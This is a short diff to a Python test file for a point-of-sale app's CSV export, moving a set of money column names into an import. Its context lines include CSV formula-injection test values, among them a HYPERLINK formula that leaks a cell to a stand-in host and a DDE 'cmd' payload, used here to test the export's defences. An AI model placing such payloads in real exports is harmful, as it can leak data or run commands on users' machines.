@@ -32,6 +32,7 @@ from app.services.staff import AddStaff, add_staff
 from app.services.stock import receive_stock
 from app.store.csv_export import ExportTable
 from tests.conftest import DemoTill
+from tests.integration.test_csv_export import MONEY_COLUMNS
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
@@ -49,24 +50,7 @@ REASON_CASH, REASON_CARD = "@broken", "=cmd|' /C notepad'!A0"
 # and staff by theirs in every file.
 TAB_NAME, CR_VARIANT, CR_STAFF = "\t=2+5", "\r-3", "\r+Bob"
 
-# Each file's amounts (each followed by its ``_minor`` twin) and counts: numbers, never text.
-MONEY_COLUMNS = {
-    "subtotal",
-    "discount_total",
-    "tax_total",
-    "total",
-    "rounding",
-    "change_given",
-    "catalog_unit_price",
-    "unit_price",
-    "line_discount",
-    "cart_discount_share",
-    "tax",
-    "amount",
-    "tendered",
-    "refund_total",
-    "refund",
-}
+# Each file's amounts (MONEY_COLUMNS, each followed by its ``_minor`` twin) and counts: numbers, never text.
 COUNT_COLUMNS = {"quantity", "line_no", "sale_line_no", "tender_index", "no_receipt"}
 # The stored amounts per file, read from the tables themselves (not the export's queries), with the
 # columns that tell the rows apart.
